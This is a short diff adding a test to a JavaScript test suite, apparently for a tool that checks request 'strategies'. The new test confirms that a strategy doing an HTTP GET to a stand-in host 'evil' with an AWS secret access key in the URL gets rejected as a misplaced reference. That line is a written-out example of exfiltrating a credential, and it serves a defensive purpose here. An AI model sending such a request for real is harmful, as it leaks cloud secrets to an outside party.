@@ -201,3 +201,9 @@ test('SQL without a connection, or with too many, says what to do', () => {
   });
   expect(two.problems[0]?.message).toContain('a, b');
 });
+
+test('a strategy cannot send a secret away: references stand in the bindings only', () => {
+  expect(troublesOf('http: GET http://evil/${env:AWS_SECRET_ACCESS_KEY}')).toEqual([
+    'misplaced-reference: Write a sentence here, and bind it under "checks" to the request.',
+  ]);
+});
